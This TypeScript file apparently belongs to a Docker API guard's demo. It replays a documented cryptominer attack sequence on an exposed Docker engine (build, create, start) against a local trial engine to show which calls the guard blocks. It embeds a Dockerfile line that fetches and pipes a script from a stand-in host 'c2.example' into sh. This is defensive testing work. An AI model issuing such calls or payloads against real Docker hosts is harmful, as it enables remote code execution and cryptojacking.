import { randomBytes } from 'node:crypto';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { Agent, request } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { loadConfig } from '../config/load.js';
import { startTrialEngine } from '../trial-engine/engine.js';
import { startGuard } from './guard.js';

/**
 * The attack that Breakwater was made for (public report by Aqua Nautilus), as the Docker SDK for Python sends it:
 * an image is built on the victim itself, from a benign base, under a random name, and run. `.example` names do not
 * resolve (RFC 2606, section 2), and the engine behind the guard is the trial engine: nothing is ever contacted.
 */
export const ATTACK_DOCKERFILE = 'FROM alpine\nRUN wget http://c2.example/dock/main.sh -O- | sh\n';

/** What the attacker knows: the name of the image, and the ids from the engine's responses. */
interface Loot {
  readonly tag: string;
  image: string;
  container: string;
}

interface AttackStep {
  readonly does: string;
  readonly method: 'GET' | 'POST';
  readonly path: (loot: Loot) => string;
  readonly body?: (loot: Loot) => { readonly type: string; readonly bytes: Buffer };
  /** Must a guard stop it? The others only look, and a policy may let anyone look. */
  readonly mustStop: boolean;
  readonly learn?: (loot: Loot, answer: string) => void;
}

const LIST = '/v1.41/containers/json?limit=-1&all=0&size=0&trunc_cmd=0';

const STEPS: readonly AttackStep[] = [
  { does: 'is anyone there?', method: 'GET', path: () => '/_ping', mustStop: false },
  { does: 'what runs here?', method: 'GET', path: () => LIST, mustStop: false },
  {
    does: 'build the loader',
    method: 'POST',
    path: ({ tag }) => `/v1.41/build?t=${tag}&q=False&nocache=False&rm=False&forcerm=False&pull=False`,
    body: () => ({ type: 'application/tar', bytes: tarOf('Dockerfile', ATTACK_DOCKERFILE) }),
    mustStop: true,
    learn: (loot, answer) => {
      loot.image = /Successfully built ([0-9a-f]{12})/.exec(answer)?.[1] ?? loot.image;
    },
  },
  {
    does: 'is it built?',
    method: 'GET',
    path: ({ image }) => `/v1.41/images/${image}/json`,
    mustStop: false,
  },
  {
    does: 'create a container',
    method: 'POST',
    path: () => '/v1.41/containers/create',
    body: ({ tag }) => ({ type: 'application/json', bytes: Buffer.from(createBody(tag)) }),
    mustStop: true,
    learn: (loot, answer) => {
      loot.container = /"Id":"([0-9a-f]{64})"/.exec(answer)?.[1] ?? loot.container;
    },
  },
  { does: 'what runs now?', method: 'GET', path: () => LIST, mustStop: false },
  {
    does: 'start the miner',
    method: 'POST',
    path: ({ container }) => `/v1.41/containers/${container}/start`,
    mustStop: true,
  },
];

/** What became of one step. */
export interface AttackResult {
  /** 1 to 7. */
  readonly step: number;
  readonly does: string;
  /** Method and path, ids cut to 12 digits. */
  readonly call: string;
  readonly mustStop: boolean;
  /** HTTP status from the engine itself. */
  readonly unguarded: number;
  /** HTTP status through the guard. */
  readonly status: number;
  /** True when the call did not reach the engine. */
  readonly stopped: boolean;
  readonly verdict: 'allow' | 'deny';
  readonly operation: string;
  readonly rule: string;
  readonly hazards: readonly string[];
  readonly reason: string;
}

export interface AttackReport {
  readonly policy: readonly string[];
  readonly results: readonly AttackResult[];
  /** Images and containers on the engine that the guarded run added. */
  readonly traces: number;
  /** Did the attack work without the guard? Else the comparison means nothing. */
  readonly unguardedWorks: boolean;
}

/**
 * Runs the attack twice before one trial engine: first straight at it, then through a guard. The second run goes on
 * after each denial with what the first run left there, so that each dangerous call is judged on its own: its image
 * and its container do exist.
 *
 * @param policy policy files or directories; none for the default policy.
 * @throws Error with a readable message when the policy does not load or a socket cannot be opened.
 */
export async function replayAttack(policy: readonly string[]): Promise<AttackReport> {
  const directory = await mkdtemp(join(tmpdir(), 'breakwater-demo-'));
  const engine = await startTrialEngine();
  try {
    const direct = { socketPath: engine.url.slice('unix://'.length) };
    const audit = join(directory, 'audit.jsonl');
    const loaded = loadConfig(undefined, {
      listen: ['tcp://127.0.0.1:0'],
      upstream: engine.url,
      policy,
      audit,
    });
    if (!loaded.ok) {
      const [problem] = loaded.problems;
      throw new Error(`${problem?.file}${problem?.pointer}: ${problem?.message}`);
    }
    // Whatever runs on this machine already has the admin port.
    const config = { ...loaded.config, admin: null };

    const loot: Loot = { tag: `a${randomBytes(5).toString('hex')}`, image: '', container: '' };
    const before = await runSteps(direct, loot);
    const had = await countObjects(direct);
    const guard = await startGuard({ config });
    let after: readonly Answer[];
    try {
      const url = new URL(guard.listeners[0]?.url.replace(/^tcp:/, 'http:') ?? '');
      after = await runSteps({ host: url.hostname, port: Number(url.port) }, { ...loot });
    } finally {
      await guard.close(1000);
    }
    const traces = (await countObjects(direct)) - had;
    const decisions = readDecisions(await readFile(audit, 'utf8'));
    const results = STEPS.map((step, index): AttackResult => {
      const status = after[index]?.status ?? 0;
      const { verdict, operation, rule, hazards, reason } = decisions[index] ?? missingDecision;
      return {
        step: index + 1,
        does: step.does,
        call: `${step.method} ${step.path(loot).replace(/\b[0-9a-f]{64}\b/, (id) => id.slice(0, 12))}`,
        mustStop: step.mustStop,
        unguarded: before[index]?.status ?? 0,
        status,
        stopped: status === 403,
        verdict,
        operation,
        rule,
        hazards,
        reason,
      };
    });
    const unguardedWorks = before.every(({ status }) => status >= 200 && status < 300);
    return { policy: config.policy, results, traces, unguardedWorks };
  } finally {
    await engine.close();
    await rm(directory, { recursive: true, force: true });
  }
}

type Target = { readonly socketPath: string } | { readonly host: string; readonly port: number };
interface Answer {
  readonly status: number;
  readonly text: string;
}

/** One keep-alive connection, one call after the other, as the SDK does it. */
async function runSteps(target: Target, loot: Loot): Promise<Answer[]> {
  const agent = new Agent({ keepAlive: true, maxSockets: 1 });
  const answers: Answer[] = [];
  try {
    for (const step of STEPS) {
      const answer = await send(target, agent, step.method, step.path(loot), step.body?.(loot));
      answers.push(answer);
      step.learn?.(loot, answer.text);
    }
  } finally {
    agent.destroy();
  }
  return answers;
}

function send(
  target: Target,
  agent: Agent,
  method: 'GET' | 'POST',
  path: string,
  body?: { readonly type: string; readonly bytes: Buffer },
): Promise<Answer> {
  const headers: Record<string, string | number> = {
    'User-Agent': 'docker-sdk-python/7.1.0',
    'Accept-Encoding': 'gzip, deflate',
    Accept: '*/*',
    Connection: 'keep-alive',
  };
  if (body !== undefined) headers['Content-Type'] = body.type;
  if (method === 'POST') headers['Content-Length'] = body?.bytes.length ?? 0;
  return new Promise((resolve, reject) => {
    const outgoing = request({ ...target, agent, method, path, headers, timeout: 10_000 }, (response) => {
      let text = '';
      response.setEncoding('utf8');
      response.on('data', (chunk: string) => (text += chunk));
      response.on('end', () => resolve({ status: response.statusCode ?? 0, text }));
      response.on('error', reject);
    });
    outgoing.on('timeout', () => outgoing.destroy(new Error(`no answer to ${method} ${path} within 10 s`)));
    outgoing.on('error', reject);
    outgoing.end(body?.bytes);
  });
}

async function countObjects(target: Target): Promise<number> {
  const agent = new Agent();
  const { text } = await send(target, agent, 'GET', '/info');
  const info = JSON.parse(text) as { Images: number; Containers: number };
  return info.Images + info.Containers;
}

type Decision = Pick<AttackResult, 'verdict' | 'operation' | 'rule' | 'hazards' | 'reason'>;
const missingDecision: Decision = {
  verdict: 'deny',
  operation: '',
  rule: '',
  hazards: [],
  reason: 'there is no decision on record',
};

/** The decision lines in the order of the calls: each was written before its call was answered. */
function readDecisions(audit: string): Decision[] {
  return audit
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line) as Decision & { event: string })
    .filter((line) => line.event === 'decision');
}

/** The body that the SDK's `containers.create(image)` sends. */
function createBody(image: string): string {
  return JSON.stringify({
    Tty: false,
    OpenStdin: false,
    StdinOnce: false,
    AttachStdin: false,
    AttachStdout: true,
    AttachStderr: true,
    Image: image,
    NetworkDisabled: false,
    HostConfig: { NetworkMode: 'default' },
  });
}

/** A tar archive of one file, as Python's tarfile writes it: ustar, records of 10,240 bytes (POSIX.1-1988). */
function tarOf(name: string, content: string): Buffer {
  const bytes = Buffer.from(content);
  const tar = Buffer.alloc(Math.ceil((512 + bytes.length + 1024) / 10_240) * 10_240);
  const octal = (value: number, digits: number): string => `${value.toString(8).padStart(digits, '0')}\0`;
  tar.write(name, 0);
  tar.write(octal(0o644, 7), 100);
  tar.write(octal(0, 7), 108);
  tar.write(octal(0, 7), 116);
  tar.write(octal(bytes.length, 11), 124);
  tar.write(octal(0, 11), 136);
  tar.write('        0', 148);
  tar.write('ustar\x0000', 257);
  const sum = tar.subarray(0, 512).reduce((total, byte) => total + byte, 0);
  tar.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
  bytes.copy(tar, 512);
  return tar;
}
